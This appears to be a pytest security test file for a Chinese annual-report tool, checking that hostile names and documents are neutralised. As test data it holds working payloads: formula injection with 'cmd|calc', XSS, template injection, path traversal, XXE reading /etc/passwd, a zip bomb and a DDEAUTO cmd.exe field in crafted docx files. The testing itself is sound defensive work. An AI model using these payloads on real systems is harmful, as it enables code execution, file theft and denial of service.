"""Names and texts that try to be more than text: formulas, markup, tags, paths; and documents that try to reach out."""

import csv
import io
import re
import shutil
import socket
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree, html
from openpyxl import load_workbook

import books
import office
import reports
from nianbao import files, published, report, workbook
from nianbao.cli import main
from nianbao.county.model import Member
from nianbao.county.roster.roster_book import write_roster
from nianbao.document import read_data, template_for
from nianbao.form import load_edition

pytestmark = pytest.mark.xdist_group("attacks")

MARK = "越权"
"""Stands in every hostile word, so that it is found wherever it went."""

NAMES = (
    f"=HYPERLINK(\"http://x/{MARK}\")镇",
    f"+1+cmd|' /C calc'!A0{MARK}镇",
    f"-2+3{MARK}镇",
    f"@SUM(1){MARK}镇",
    f"../../{MARK}/etc镇",
    f"C:\\{MARK}\\镇",
    f"\\\\server\\{MARK}镇",
    f"\u202e{MARK}反写镇",
    f"{{{{ 7*7 }}}}{{% for x in y %}}{MARK}镇",
    f"<img src=x onerror=alert('{MARK}')>镇",
    f"</script><script>alert('{MARK}')</script>镇",
    f"<svg onload=alert('{MARK}')>镇",
    f"\"><a href=\"javascript:alert('{MARK}')\">镇",
    f"&lt;b&gt;&amp;{MARK};镇",
    f"{MARK}尾点镇...",
    "CON",
    "nul.xlsx",
)  # fmt: skip
TEXT = "\n".join(NAMES[:14])
RISKY = ("=", "+", "-", "@", "\t", "\r")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def hostile_county(folder):
    """A roster and a form for each hostile name; the office's facts and texts are hostile too."""
    edition = load_edition("2021")
    delivered = folder / "收到"
    delivered.mkdir()
    for i, name in enumerate(NAMES):
        facts = {**reports.BODY, "name": name, "office": name, "address": f"{name}1号", "county": "示例县"}
        texts = {**reports.TEXTS, "overview": f"{reports.TEXTS['overview']}\n{TEXT}", "other_matters": NAMES[i - 3]}
        one = replace(reports.zero(), body=facts, texts=texts)
        (delivered / f"{i}.xlsx").write_bytes(workbook.build(edition, one))
    roster = folder / "名册.xlsx"
    members = [Member(n, n[:20], "town", n, n, (f"{n}旧名",), deadline="2026-01-20") for n in NAMES]
    roster.write_bytes(write_roster(edition, members))
    return roster, delivered


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Everything a county gets of such names, and what one body gets of them."""
    folder = tmp_path_factory.mktemp("attacks")
    roster, delivered = hostile_county(folder)
    out = folder / "out"
    out.mkdir()
    first = min(delivered.iterdir())
    last = folder / "上年"
    last.mkdir()
    for n in (0, 1, 2, 3, 8):  # the formulas, and tags: what last year's file brings is drawn anew for each
        shutil.copy(delivered / f"{n}.xlsx", last)
    ran = [
        main([str(a) for a in arguments])
        for arguments in (
            ("batch", delivered, "--roster", roster, "-o", out / "县", "--workers", 1, "--to", "docx,html,csv,json"),
            ("rollup", delivered, "--roster", roster, "-o", out / "汇总.xlsx", "--partial"),
            ("new", "--roster", roster, "--year", 2026, "-o", out / "发表", "--last-year", last),
            ("check", first, "--annotate", out / "标出问题.xlsx", "--write-reasons", out / "说明.json"),
            ("make", first, "-o", out / "一份", "--draft", "--to", "docx,html,csv,json", "--check-sheet"),
        )
    ]
    shutil.copy(roster, out)
    assert 2 not in ran
    return out


def every(folder, suffix):
    found = sorted(p for p in folder.rglob(f"*{suffix}") if p.is_file())
    assert found
    return found


def test_every_file_of_a_hostile_name_lies_in_its_folder_under_a_harmless_name(made):
    outside = [p for p in made.parent.rglob("*") if MARK in p.name and made not in p.parents and p != made]
    assert outside == []
    listed = [p for p in made.rglob("*") if ".nianbao" not in p.parts]
    assert len(listed) > 3 * len(NAMES)
    for path in listed:
        assert not re.search(r'[<>:"\\|?*\x00-\x1f\u200b-\u202e]', path.name), path
        assert not path.name.endswith((".", " ")), path
        assert path.name == files.safe_name(path.stem) + path.suffix or len(path.stem) > 60, path


def test_no_cell_of_any_workbook_runs_what_was_typed(made):
    cells = 0
    for path in every(made, ".xlsx"):
        for name, part in office.parts(path).items():
            assert "externalLink" not in name
            if not name.startswith("xl/worksheets/sheet"):
                continue
            root = etree.fromstring(part)
            formulas = [f.text or "" for f in root.iter(f"{MAIN}f")]
            assert not [f for f in formulas if MARK in f or 'HYPERLINK("http' in f or "cmd|" in f], path
            cells += sum(MARK in "".join(c.itertext()) for c in root.iter(f"{MAIN}c"))
            links = [e for e in root.iter(f"{MAIN}hyperlink") if MARK in (e.get("location") or "")]
            assert links == [], path
        shared = office.parts(path).get("xl/sharedStrings.xml", b"").decode()
        cells += shared.count(MARK)
    assert cells > 100, "the names did arrive, as text"


def test_what_was_typed_and_could_be_a_formula_is_marked_as_text_for_editing_too(made):
    """quotePrefix keeps Excel from taking the text for a formula when somebody opens the cell and presses Enter."""
    checked = 0
    forms = sorted(every(made / "发表", ".xlsx"), key=lambda p: p.stat().st_size)[-4:]  # with last year's
    for path in [*every(made / "县" / "汇总", ".xlsx"), made / "汇总.xlsx", *forms]:
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(RISKY) and MARK in cell.value:
                        assert (cell.data_type, cell.quotePrefix) == ("s", True), (path, cell)
                        checked += 1
    assert checked > 10


def test_no_field_of_a_csv_begins_like_a_formula(made):
    for path in every(made, ".csv"):
        fields = [f for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for f in row]
        numbers = re.compile(r"-?\d+(\.\d+)?")
        assert not [f for f in fields if f.startswith(RISKY) and not numbers.fullmatch(f)], path


def test_no_page_has_an_element_an_event_or_an_address_of_what_was_typed(made):
    for path in every(made, ".html"):
        text = path.read_text(encoding="utf-8")
        root = html.document_fromstring(text.encode(), parser=html.HTMLParser(encoding="utf-8"))
        scripts = "".join(s.text or "" for s in root.iter("script") if s.get("type") != "application/json")
        assert "alert(" not in scripts, path
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), (path, name)
                if name.lower() in ("href", "src", "action", "xlink:href"):
                    assert not re.match(r"\s*(javascript|data:text|vbscript)", value, re.IGNORECASE), (path, value)
        assert not list(root.iter("iframe", "object", "embed", "base")), path
        assert MARK in "".join(root.itertext()), path


def test_tags_in_typed_words_are_printed_and_never_run(made):
    seen = 0
    for path in [*every(made / "县" / "报告", ".docx"), *every(made / "一份", ".docx")]:
        parts = office.parts(path)
        words = "".join(etree.fromstring(parts["word/document.xml"]).itertext())
        assert "49{%" not in words
        seen += words.count("{{ 7*7 }}{% for x in y %}")
        for name, part in parts.items():
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in part, (path, name)
            if name.endswith(".xml"):
                etree.fromstring(part)
        assert "instrText" not in parts["word/document.xml"].decode() or MARK not in "".join(
            e.text or "" for e in etree.fromstring(parts["word/document.xml"]).iter("{*}instrText")
        )
    assert seen > len(NAMES)


def test_hostile_names_come_back_from_the_reports_data_as_they_were_typed(made):
    told = {read_data(p).name for p in every(made / "县" / "报告", ".docx")}
    assert told <= set(NAMES)
    assert len(told) >= len(NAMES) - 1  # a mark of direction is no part of a name: that form is sent back


# ---------------------------------------------------------------- documents that reach out


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*a, **k):
        raise AssertionError("the network was touched")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def reaching_out(data: bytes) -> bytes:
    """A report with everything by which a document reaches out or carries programs."""
    parts = office.parts(data)
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = '<Relationship Id="evil{}" Type="{}/{}" Target="{}" TargetMode="External"/></Relationships>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    parts["word/_rels/settings.xml.rels"] = (
        head + relation.format(1, kind, "attachedTemplate", "http://127.0.0.1:9/evil.dotm")
    ).encode()
    told = parts["word/_rels/document.xml.rels"].decode()
    for number, what, target in (
        (2, "image", "http://127.0.0.1:9/a.png"),
        (3, "oleObject", "file://server/share/x.xlsx"),
        (4, "subDocument", "http://127.0.0.1:9/b.docx"),
        (5, "aFChunk", "http://127.0.0.1:9/c.html"),
    ):
        told = told.replace("</Relationships>", relation.format(number, kind, what, target))
    parts["word/_rels/document.xml.rels"] = told.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0"
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("inner.docx", data)
        package.writestr("bomb", b"\0" * 50_000_000)
    parts["word/embeddings/nested.docx"] = nested.getvalue()
    xml = parts["word/document.xml"].decode()
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    parts["word/document.xml"] = xml.replace("<w:body>", f"<w:body>{field}", 1).encode()
    return books_zip(parts)


def books_zip(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


def test_a_report_that_reaches_out_is_read_without_going_anywhere(tmp_path, no_network):
    sound = template_for(load_edition("2021")).render(reports.zero())
    path = tmp_path / "年报.docx"
    path.write_bytes(reaching_out(sound))
    found = published.read(path)
    assert len(found.report.values) == 201
    assert found.report.values.items() <= reports.zero().values.items()
    assert "DDE" not in str(found.report.texts)
    assert "cmd.exe" not in str(found.report.texts)


def test_a_template_that_reaches_out_makes_no_report(tmp_path, no_network, capsys):
    edition = load_edition("2021")
    data = tmp_path / "数据.json"
    data.write_text(report.dumps(reports.zero()), encoding="utf-8")
    fresh = tmp_path / "模板.docx"
    main(["template", "new", "--edition", edition.id, "-o", str(fresh)])
    evil = tmp_path / "坏模板.docx"
    evil.write_bytes(reaching_out(fresh.read_bytes()))
    out = tmp_path / "out"
    assert main(["make", str(data), "-o", str(out), "--template", str(evil)]) != 0
    said = "".join(capsys.readouterr())
    assert "没有生成报告" in said or "没有生成" in said
    assert not list(out.glob("*.docx")) if out.exists() else True
    main(["template", "check", str(evil)])
    said = "".join(capsys.readouterr())
    for words in ("附加了别处的模板", "含有宏", "OLE", "图片连接到别处", "DDEAUTO"):
        assert words in said, words


@pytest.mark.parametrize("evil", [
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
])  # fmt: skip
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"])
def test_entities_in_any_part_of_a_template_or_report_bring_nothing_in(evil, part, tmp_path, no_network, capsys):
    def poisoned(data):
        parts = office.parts(data)
        text = parts[part].decode()
        at = text.index("?>") + 2 if "?>" in text else 0
        parts[part] = (text[:at] + evil + text[at:]).encode()
        return books_zip(parts)

    fresh = tmp_path / "模板.docx"
    main(["template", "new", "--edition", "2021", "-o", str(fresh)])
    fresh.write_bytes(poisoned(fresh.read_bytes()))
    capsys.readouterr()
    assert main(["template", "check", str(fresh)]) in (1, 2)
    assert "root:" not in "".join(capsys.readouterr())
    done = tmp_path / "年报.docx"
    done.write_bytes(poisoned(template_for(load_edition("2021")).render(reports.zero())))
    code = main(["read", str(done), "--format", "json"])
    assert "root:" not in "".join(capsys.readouterr())
    assert code == (2 if part == "word/document.xml" else 0)


def test_a_workbook_with_links_queries_and_controls_is_read_and_keeps_none_in_its_copy(tmp_path, no_network, capsys):
    def reach(parts):
        parts["xl/connections.xml"] = b"<connections/>"
        parts["xl/activeX/activeX1.bin"] = b"x"
        parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf"

    path = books.patched(books.saved(tmp_path, books.filled()), reach)
    assert main(["check", str(path)]) in (0, 1)
    assert workbook.read(path).report == books.filled()


def test_no_stray_file_was_written_anywhere_else(made):
    assert sorted(p.name for p in made.parent.iterdir()) == ["out", "上年", "名册.xlsx", "收到"]
    assert not Path("/etc镇").exists()
